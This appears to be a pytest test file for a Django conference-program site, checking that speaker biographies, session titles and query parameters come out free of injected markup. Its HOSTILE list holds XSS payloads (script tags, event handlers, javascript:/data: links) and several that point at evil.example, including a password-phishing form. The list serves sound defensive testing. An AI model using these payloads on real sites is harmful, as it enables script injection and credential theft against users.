"""Hostile texts: in Markdown, in names and in addresses."""

import pytest
from bs4 import BeautifulSoup

from sessions.models import Session
from sessions.templatetags.program import prose
from speakers.models import Speaker

pytestmark = pytest.mark.django_db
HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](vbscript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](javascript:alert(1))",
    '![x](x "onerror=alert(1)")',
    '[x](x "onclick=alert(1)")',
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "`<script>alert(1)</script>`",
    "</div><script>alert(1)</script>",
    "<style>@import 'https://evil.example';</style>",
    "<form action=https://evil.example><input name=password></form>",
    "<base href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "\0<scr\0ipt>alert(1)</scr\0ipt>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "{{ request.session }}{% debug %}",
]
FORBIDDEN = "script, style, iframe, object, embed, form, input, base, meta, svg, math"


def assert_harmless(html):
    found = BeautifulSoup(html, "html.parser")
    assert not found.select(FORBIDDEN)
    for element in found.select("*"):
        assert not [name for name in element.attrs if name.startswith("on") or name == "style"]
        for name in ("href", "src"):
            scheme = element.get(name, "").strip().lower().partition(":")[0]
            assert scheme not in ("javascript", "vbscript", "data")


@pytest.mark.parametrize("text", HOSTILE)
def test_markdown_comes_out_harmless(text):
    assert_harmless(prose(Speaker(biography_en=text, biography_zh_hans=text), "biography"))


def test_links_of_a_text_tell_other_sites_nothing():
    html = prose(Speaker(biography_en="[x](https://example.org/)"), "biography")
    assert "noopener noreferrer" in html


def test_deeply_nested_markdown_is_answered():
    text = ">" * 50_000 + "[" * 50_000 + "*a " * 20_000
    assert prose(Speaker(biography_en=text), "biography")


@pytest.mark.parametrize("text", [*HOSTILE[:6], "\"'><b>bold</b>", "</script><b>bold</b>"])
def test_hostile_title_and_name_are_text_on_every_page(client, program, text):
    Session.objects.filter(slug="llm-day-panel").update(
        title_en=text, title_zh_hans=text, abstract_en=text
    )
    Speaker.objects.filter(slug="vy-vo").update(name_en=text, name_zh_hans=text)
    for address in (
        "/en/llm-day/sessions/llm-day-panel/",
        "/en/kdd-2023/schedule/?day=2023-08-08",
        "/en/speakers/vy-vo/",
        "/zh-hans/kdd-2023/speakers/",
        "/en/kdd-2023/schedule/?q=alert",
        "/en/kdd-2023/now/?at=2023-08-08T15:05:00-07:00",
    ):
        page = client.get(address).content.decode()
        for raw in ("<script>alert", "<img src=x", "<svg onload", "<iframe", "<b>bold"):
            assert raw not in page


@pytest.mark.parametrize("text", [*HOSTILE[:5], "\"'><script>alert(1)</script>"])
@pytest.mark.parametrize("name", ["q", "day", "kind", "sort", "s", "at", "lang"])
def test_query_comes_back_as_text(client, program, name, text):
    for path in ("/en/kdd-2023/schedule/", "/en/kdd-2023/speakers/", "/en/kdd-2023/agenda/"):
        page = client.get(path, {name: text}, follow=True).content.decode()
        for raw in ("<script>alert", "<img src=x", "<svg onload", "<svg><style", "<math>"):
            assert raw not in page
